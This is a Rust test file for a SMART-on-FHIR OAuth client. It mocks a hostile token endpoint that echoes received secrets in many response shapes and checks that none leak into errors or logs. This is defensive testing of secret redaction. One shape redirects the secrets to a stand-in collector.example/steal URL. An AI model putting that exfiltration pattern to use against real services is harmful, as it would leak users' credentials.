//! Secret canaries: a hostile token endpoint echoes every credential it receives back in
//! every body shape and status; no canary may reach `Display`, `Debug`, `to_json` or the
//! `tracing` output.

use std::io;
use std::sync::{Arc, Mutex};

use fhir_smart::client_auth::{ClientAuth, ClientCredentials};
use fhir_smart::keys::{SigningAlgorithm, SigningKey};
use fhir_smart::secret::ClientSecret;
use fhir_smart::token::TokenResponse;
use fhir_smart::{AppLaunch, Error, SmartClient};
use serde_json::{Value, json};
use wiremock::matchers::{method, path};
use wiremock::{Mock, MockServer, Request, ResponseTemplate};

use crate::support::*;

pub(crate) const ACCESS: &str = "CANARY-access-7f3a";
pub(crate) const REFRESH: &str = "CANARY-refresh+/=9b2c";
pub(crate) const CODE: &str = "CANARY-code+/=41d0";
pub(crate) const SECRET: &str = "CANARY-secret-e5&x=1";

/// The shapes a hostile server echoes what it received in.
#[derive(Clone, Copy, Debug)]
pub(crate) enum Shape {
    OAuthError,
    ErrorCodeItself,
    NestedJson,
    Array,
    FormEncoded,
    RawForm,
    Text,
    Html,
    ErrorOn200,
    /// A redirect to another origin carrying what was received.
    Redirect,
}

pub(crate) const SHAPES: [Shape; 10] = [
    Shape::OAuthError,
    Shape::ErrorCodeItself,
    Shape::NestedJson,
    Shape::Array,
    Shape::FormEncoded,
    Shape::RawForm,
    Shape::Text,
    Shape::Html,
    Shape::ErrorOn200,
    Shape::Redirect,
];

/// Everything a request carried that is a credential: form values and the Basic header.
pub(crate) fn received_secrets(request: &Request) -> Vec<String> {
    let mut secrets: Vec<String> = form(request)
        .into_iter()
        .filter(|(name, _)| {
            matches!(
                name.as_str(),
                "code" | "code_verifier" | "refresh_token" | "client_secret" | "client_assertion"
            )
        })
        .map(|(_, value)| value)
        .collect();
    if let Some(basic) = request.headers.get("authorization") {
        let basic = basic.to_str().unwrap().to_owned();
        secrets.extend(basic.strip_prefix("Basic ").map(str::to_owned));
        secrets.push(basic);
    }
    secrets
}

fn echo(shape: Shape, status: u16, request: &Request) -> ResponseTemplate {
    let received = form(request);
    let values: Vec<String> = received_secrets(request);
    let all = values.join(" ");
    let raw = String::from_utf8_lossy(&request.body).into_owned();
    let json_body = |body: Value| ResponseTemplate::new(status).set_body_json(body);
    match shape {
        Shape::OAuthError => json_body(json!({
            "error": "invalid_grant",
            "error_description": format!("rejected {all} ({raw})"),
            "error_uri": format!("https://auth.example/why?{raw}"),
        })),
        Shape::ErrorCodeItself => json_body(json!({"error": values.first().cloned().unwrap_or_default()})),
        Shape::NestedJson => json_body(json!({
            "message": "nope",
            "request": {"form": received, "headers": {"Authorization": values.last()}},
            "deeper": [{"echo": [all, {"Refresh_Token": "other-value"}]}],
        })),
        Shape::Array => json_body(json!(values)),
        Shape::FormEncoded => ResponseTemplate::new(status)
            .insert_header("content-type", "application/x-www-form-urlencoded")
            .set_body_string(raw),
        Shape::RawForm => ResponseTemplate::new(status)
            .insert_header("content-type", "text/plain")
            .set_body_string(format!("received={raw}")),
        Shape::Text => ResponseTemplate::new(status)
            .insert_header("content-type", "text/plain")
            .set_body_string(format!("Bad request. You sent: {all}\nraw: {raw}")),
        Shape::Html => ResponseTemplate::new(status)
            .insert_header("content-type", "text/html")
            .set_body_string(format!(
                "<html><body><h1>Error</h1><p>{all}</p><input type=\"hidden\" value=\"{raw}\"></body></html>"
            )),
        Shape::Redirect => ResponseTemplate::new(307)
            .insert_header(
                "location",
                format!("https://collector.example/steal?{raw}&all={}", url::form_urlencoded::byte_serialize(all.as_bytes()).collect::<String>()),
            )
            .set_body_string(format!("moved, you sent {all}")),
        Shape::ErrorOn200 => ResponseTemplate::new(200).set_body_json(json!({
            "error": "invalid_request",
            "error_description": format!("you sent {all}"),
            "access_token": ACCESS,
        })),
    }
}

/// A buffer that a `tracing` subscriber writes into.
#[derive(Clone, Default)]
pub(crate) struct Captured(Arc<Mutex<Vec<u8>>>);

impl io::Write for Captured {
    fn write(&mut self, buf: &[u8]) -> io::Result<usize> {
        self.0.lock().unwrap().extend_from_slice(buf);
        Ok(buf.len())
    }
    fn flush(&mut self) -> io::Result<()> {
        Ok(())
    }
}

impl Captured {
    pub(crate) fn text(&self) -> String {
        String::from_utf8_lossy(&self.0.lock().unwrap()).into_owned()
    }
}

pub(crate) fn subscriber(captured: &Captured) -> impl tracing::Subscriber + Send + Sync + use<> {
    let writer = captured.clone();
    tracing_subscriber::fmt()
        .with_max_level(tracing::Level::TRACE)
        .with_ansi(false)
        .with_writer(move || writer.clone())
        .finish()
}

/// Every credential the server saw, with the known canaries.
pub(crate) fn canaries(server_saw: &Mutex<Vec<String>>) -> Vec<String> {
    let mut all: Vec<String> = [ACCESS, REFRESH, CODE, SECRET]
        .iter()
        .map(|s| (*s).to_owned())
        .collect();
    all.extend(server_saw.lock().unwrap().iter().cloned());
    // Also the encoded forms a careless echo would carry.
    let encoded: Vec<String> = all
        .iter()
        .map(|s| url::form_urlencoded::byte_serialize(s.as_bytes()).collect())
        .collect();
    all.extend(encoded);
    all.retain(|s| s.len() >= 8);
    all
}

pub(crate) fn assert_clean(err: &Error, logs: &str, secrets: &[String], case: &str) {
    let shown = [
        err.to_string(),
        format!("{err:?}"),
        err.to_json().to_string(),
        logs.to_owned(),
    ];
    for text in &shown {
        for secret in secrets {
            assert!(
                !text.contains(secret.as_str()),
                "{case}: {secret:?} leaked in {text}"
            );
        }
    }
}

pub(crate) async fn hostile_token_endpoint(
    server: &MockServer,
    shape: Shape,
    status: u16,
) -> Arc<Mutex<Vec<String>>> {
    let saw: Arc<Mutex<Vec<String>>> = Arc::default();
    let log = Arc::clone(&saw);
    Mock::given(method("POST"))
        .and(path("/auth/token"))
        .respond_with(move |request: &Request| {
            log.lock().unwrap().extend(received_secrets(request));
            echo(shape, status, request)
        })
        .mount(server)
        .await;
    saw
}

pub(crate) fn initial_token() -> TokenResponse {
    TokenResponse::from_json(
        json!({
            "access_token": ACCESS, "token_type": "bearer", "expires_in": 0,
            "refresh_token": REFRESH, "scope": "patient/*.rs offline_access"
        })
        .to_string()
        .as_bytes(),
    )
    .unwrap()
}

#[tokio::test]
async fn refresh_errors_never_show_a_sent_secret() {
    let key = SigningKey::generate(SigningAlgorithm::Es384, "k1").unwrap();
    for shape in SHAPES {
        for status in [400, 401, 403, 500] {
            for auth in [
                ClientAuth::basic(SECRET),
                ClientAuth::private_key_jwt(key.clone()),
            ] {
                let captured = Captured::default();
                let _guard = tracing::subscriber::set_default(subscriber(&captured));
                let server = server().await;
                let saw = hostile_token_endpoint(&server, shape, status).await;
                let smart = SmartClient::builder(
                    fhir_base(&server),
                    token_url(&server),
                    ClientCredentials::new("app-1", auth.clone()),
                )
                .http(http())
                .token(initial_token())
                .build()
                .await
                .unwrap();
                let err = smart.refresh().await.unwrap_err();
                let case = format!("{shape:?} HTTP {status} {}", auth.method_name());
                assert!(!saw.lock().unwrap().is_empty(), "{case}: nothing was sent");
                assert_clean(&err, &captured.text(), &canaries(&saw), &case);
            }
        }
    }
}

#[tokio::test]
async fn code_exchange_errors_never_show_a_sent_secret() {
    for shape in SHAPES {
        for status in [400, 401, 500] {
            let captured = Captured::default();
            let _guard = tracing::subscriber::set_default(subscriber(&captured));
            let server = server().await;
            Mock::given(method("GET"))
                .and(path("/fhir/.well-known/smart-configuration"))
                .respond_with(
                    ResponseTemplate::new(200).set_body_json(smart_configuration(&server)),
                )
                .mount(&server)
                .await;
            let saw = hostile_token_endpoint(&server, shape, status).await;
            let app = AppLaunch::new(
                "app-1",
                "http://127.0.0.1:9/callback",
                "patient/*.rs".parse().unwrap(),
            )
            .fhir_base(fhir_base(&server).as_str())
            .http(http())
            .client_secret(ClientSecret::new(SECRET));
            let request = app.standalone().await.unwrap();
            let verifier = serde_json::to_value(&request.pending).unwrap()["code_verifier"]
                .as_str()
                .unwrap()
                .to_owned();
            let code: String = url::form_urlencoded::byte_serialize(CODE.as_bytes()).collect();
            let callback = format!(
                "http://127.0.0.1:9/callback?code={code}&state={}",
                request.pending.state()
            );
            let err = app.complete(request.pending, &callback).await.unwrap_err();
            let case = format!("{shape:?} HTTP {status} code exchange");
            let mut secrets = canaries(&saw);
            secrets.push(verifier);
            assert_clean(&err, &captured.text(), &secrets, &case);
        }
    }
}
